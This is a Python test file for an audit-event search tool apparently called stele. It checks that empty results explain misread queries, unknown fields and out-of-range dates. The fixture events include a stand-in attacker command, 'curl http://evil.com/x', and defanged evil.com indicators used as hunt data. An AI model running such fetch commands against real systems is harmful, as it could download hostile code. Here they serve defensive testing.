"""An empty answer is explained by every verb: what was searched as words and means something in another
language, what no event has, which range is empty; and on a terminal, what was searched."""
import json
import os
import pty
import subprocess

from stele_tool import BIN, LONG_SECONDS, expect, main

EVENTS = [
    {"event": "user.login", "code": "T1000I", "uid": "11111111-0000-4000-8000-000000000001",
     "time": "2026-11-01T10:00:00Z", "user": "alice@example.com", "addr.remote": "198.51.100.77:4022", "ei": 1},
    {"event": "user.login", "code": "T1000W", "uid": "11111111-0000-4000-8000-000000000002",
     "time": "2026-11-01T11:00:00Z", "user": "bob@example.com", "addr.remote": "203.0.113.9", "ei": 2},
    {"event": "session.start", "code": "T2000I", "uid": "11111111-0000-4000-8000-000000000003",
     "time": "2026-11-04T12:00:00Z", "user": "alice@example.com", "note": "salt and pepper",
     "command": "curl http://evil.com/x", "ei": 3},
]

# Asked of the three events as another language would: each is understood, or refused, or explained.
SPELLINGS = """
user:alice@example.com and event:user.login
user:alice@example.com or user:bob@example.com
not user:alice@example.com
alice And bob
user:alice@example.com && event:user.login
alice@example.com || bob@example.com
alice@example.com | bob@example.com
alice@example.com|bob@example.com
!user:alice@example.com
! alice@example.com
+user:alice@example.com +bob
user=alice@example.com
user==alice@example.com
user="alice@example.com"
user!=alice@example.com
user = alice@example.com
user == "alice@example.com"
user != alice@example.com
user <> alice@example.com
user eq alice@example.com
user =~ alice
user ~ alice
ei > 1
ei>1
ei>=1
ei<3
user : alice@example.com
user: alice@example.com
user::nobody
user in (alice@example.com, bob@example.com)
user IN ("alice@example.com","bob@example.com")
user:in(alice@example.com)
user LIKE '%alice%'
user:%alice%
user contains lice
ei between 1 and 3
user is not null
_exists_:user
SELECT * FROM events WHERE user = 'alice@example.com'
user:al?ce@example.com
user:ali?e*
user:/ali.*/
user:^alice
user:al.*e
al.+ce
198.51.100.0/24
addr.remote:198.51.100.0/24
"198.51.100.0/24"
198.51.100.0/255.255.255.0
198.51.100.1-198.51.100.99
198.51.100
addr.remote:198.51.100.x
198.51.100[.]77
ip:198.51.100[.]77
addr.remote:198[.]51[.]100[.]77
hxxp://evil[.]com/x
evil(.)com
domain:evil[dot]com
"evil[.]com"
user:alice@example.com,bob@example.com
user:[alice@example.com,bob@example.com]
alice@example.com;bob@example.com
\u201calice@example.com\u201d
user:\u201ealice@example.com\u201c
\u00abalice\u00bb
user:'alice@example.com or'
\u2013user:alice@example.com
user:alice@example.com\u00a0event:user.login
user:alice@example.com --limit 5
ei:{0 TO 2}
ei:[3 TO 1]
ei:[a TO b]
ei:[1 to 3]
time:[2026-11-05 TO 2026-11-01]
{user="nobody"}
alice~2
User:alice@example.com
usr:alice@example.com
event:user.logn
event:login.user
"user:alice@example.com"
user:"ali*"
user:alice@example.com user:bob@example.com
time:2030
time:>2030-01-01
.user == "alice@example.com"
""".strip().split("\n")


def make(place):
    expect(place.stele("init", "a").code == 0, "init")
    data = "\n".join(json.dumps(event) for event in EVENTS).encode()
    result = place.stele("import", "--archive", "a", "-", stdin=data)
    expect(result.code == 0, result.text())


def ask(place, verb, *words):
    return place.stele(verb, "--archive", "a", *words)


def no_bare_zero(place):
    make(place)
    expect(len(SPELLINGS) >= 60, len(SPELLINGS))
    bare = []
    for query in SPELLINGS:
        result = ask(place, "search", "--count", "--", query)
        expect(result.code in (0, 1, 2), f"{query}: {result.text()}")
        expect(result.out in (b"", b"0\n") if result.code else int(result.out) > 0, result.text())
        if result.code == 1 and not result.err.strip():
            bare.append(query)
    expect(not bare, f"a bare 0 for: {bare}")


def understood(place):
    """What can mean one thing only finds what it means, and says so."""
    make(place)
    for query, count, words in (
            ("user:alice@example.com and event:user.login", 1, '"and" was read as AND'),
            ("user:alice@example.com or user:bob@example.com", 3, '"or" was read as OR'),
            ("not user:alice@example.com", 1, '"not" was read as NOT'),
            ("user=alice@example.com", 2, "was read as user:alice@example.com"),
            ("user!=alice@example.com", 1, "was read as NOT user:alice@example.com"),
            ("198.51.100.0/24", 1, "was read as the network ip:198.51.100.0/24"),
            ("addr.remote:198.51.100.0/24", 1, "was read as a network"),
            ("addr.remote:203.0.113.0/30", 0, "was read as a network"),
            ("203.0.113[.]9", 1, "was read as 203.0.113.9"),
            ("hxxp://evil[.]com/x", 1, "was read as http://evil.com/x"),
            ('"salt and pepper"', 1, ""),
            ("and", 1, "")):
        result = ask(place, "search", "--count", query)
        expect(result.out == b"%d\n" % count, f"{query}: {result.text()}")
        expect(words.encode() in result.err and (words or not result.err), f"{query}: {result.text()}")


def a_plain_zero_is_quiet(place):
    """Beside no terminal, nothing is said of a query that is well written."""
    make(place)
    for query in ("user:carol@example.com", "carol", "ip:192.0.2.0/24", "event:user.login ei:9"):
        result = ask(place, "search", "--count", query)
        expect(result.code == 1 and result.out == b"0\n" and result.err == b"", f"{query}: {result.text()}")


def every_verb(place):
    """One adviser: its line is on stderr, stdout is as without it, and so is the exit code."""
    make(place)
    os.mkdir(place.path("out"))
    place.write("list.txt", "evil.com\n")
    query, words = "user:alice && usr:bob", ('"&&" was searched as a word; write AND',
                                             'no event has a field "usr"; did you mean "user"?')
    sql = "SELECT count(*) AS n FROM teleport_audit_events WHERE teleport_audit_events MATCH '%s'"
    for verb, out, options in (
            ("search", b"", [query]), ("search", b"0\n", [query, "--count"]),
            ("search", b"", [query, "--top", "user"]), ("search", b"[]\n", [query, "--top", "user", "--output", "json"]),
            ("search", b"0\n", [query, "--distinct", "user"]), ("search", b"", [query, "--histogram"]),
            ("search", b"[]\n", [query, "--histogram", "--output", "json"]),
            ("search", b"[]\n", [query, "--output", "json"]), ("search", b"", [query, "--output", "ndjson"]),
            ("export", b"", [query, "--dest", "-"]), ("export", b"", [query, "--dest", "out"]),
            ("export", b"", [query, "--dry-run"]),
            ("replay", b"", [query, "--dest", "http://127.0.0.1:9/", "--dry-run"]),
            ("replay", b"", [query, "--dest", "http://127.0.0.1:9/"]),
            ("copy", b"", [query, "c.stele", "--why", "test"]),
            ("sql", b'[\n{"n":0}\n]\n', [sql % query, "--output", "json"]),
            ("hunt", None, ["list.txt", "--query", query])):
        result = ask(place, verb, *options)
        for line in words:
            expect(result.err.decode().count(line) == 1, f"{verb} {options}: {result.text()}")
        expect(out is None or result.out == out, f"{verb} {options}: {result.out}")
        expect(result.code == (0 if verb == "sql" else 1), f"{verb} {options}: {result.code}")
    expect(not os.path.exists(place.path("c.stele")), "no copy is made")
    result = ask(place, "search", "*", "--top", "usr")
    expect(result.code == 1 and b'no event has a field "usr"; did you mean "user"?' in result.err, result.text())
    result = ask(place, "sql", sql % "user=alice@example.com", "--output", "csv")
    expect(result.out.split() == [b"n", b"2"] and b"was read as user:alice@example.com" in result.err, result.text())
    result = ask(place, "sql", sql % "user:carol", "--output", "csv")
    expect(result.out.split() == [b"n", b"0"] and result.err == b"", result.text())


def outside_of_the_archive(place):
    make(place)
    for options, words in (
            (["--from", "2030-01-01"], b"no event is of 2030-01-01T00:00:00Z or later; the archive has events from "
                                       b"2026-11-01T10:00:00Z until 2026-11-04T12:00:00Z"),
            (["--to", "2020-01-01"], b"no event is before 2020-01-01T00:00:00Z; the archive has"),
            (["--from", "2026-11-02", "--to", "2026-11-03"],
             b"no event is from 2026-11-02T00:00:00Z until 2026-11-03T00:00:00Z"),
            (["--from", "2026-11-01T12:00:00Z", "--to", "2026-11-01T13:00:00Z"], b"no event is from 2026-11-01T12")):
        for verb in (["search", "*", "--count"], ["export", "--dry-run"], ["hunt", "list.txt"]):
            place.write("list.txt", "evil.com\n")
            result = ask(place, *verb, *options)
            expect(result.code == 1 and words in result.err, f"{verb} {options}: {result.text()}")
    expect(place.stele("init", "empty").code == 0, "init")
    result = place.stele("search", "*", "--archive", "empty")
    expect(result.code == 1 and result.err == b"the archive has no events yet\n", result.text())


def on_a_terminal(place, *words):
    """What the tool writes on a terminal, and its exit code."""
    front, back = pty.openpty()
    process = subprocess.Popen([os.path.join(BIN, "stele"), *words, "--archive", "a"], stdout=subprocess.PIPE,
                               stderr=back, cwd=place.dir)
    os.close(back)
    said = b""
    while True:
        try:
            piece = os.read(front, 65536)
        except OSError:
            break
        if not piece:
            break
        said += piece
    os.close(front)
    out = process.communicate(timeout=LONG_SECONDS)[0]
    return process.returncode, out, said.decode().replace("\r\n", "\n")


def coverage_on_a_terminal(place):
    """An empty answer is never nothing at all: it says what was searched, as a hunt does."""
    make(place)
    place.stele("import", "--archive", "a", "-", stdin=b"no event\n")
    hunted = ask(place, "hunt", place.write("list.txt", "nosuch.example\n")).text()
    for words in (["search", "user:carol"], ["search", "user:carol", "--count"], ["copy", "user:carol", "c", "--why", "x"],
                  ["export", "user:carol", "--dry-run"]):
        code, out, said = on_a_terminal(place, *words)
        expect(code == 1 and out in (b"", b"0\n"), f"{words}: {code} {out}")
        expect("nothing was found\n" in said, said)
        coverage = said[said.index("searched "):].splitlines()
        expect(coverage[0] == "searched   3 events on 2 days", coverage)
        expect([line.split()[0] for line in coverage] == ["searched", "from", "until", "gaps", "quarantine", "sha256"],
               coverage)
        expect(all(line in hunted for line in coverage), f"{coverage} {hunted}")
    code, out, said = on_a_terminal(place, "search", "user:carol", "--from", "2026-11-03")
    expect("searched   1 event on 1 day" in said, said)
    code, out, said = on_a_terminal(place, "search", "user:alice@example.com", "--count")
    expect((code, out, said) == (0, b"2\n", ""), f"{code} {out} {said}")


main(no_bare_zero, understood, a_plain_zero_is_quiet, every_verb, outside_of_the_archive, coverage_on_a_terminal)
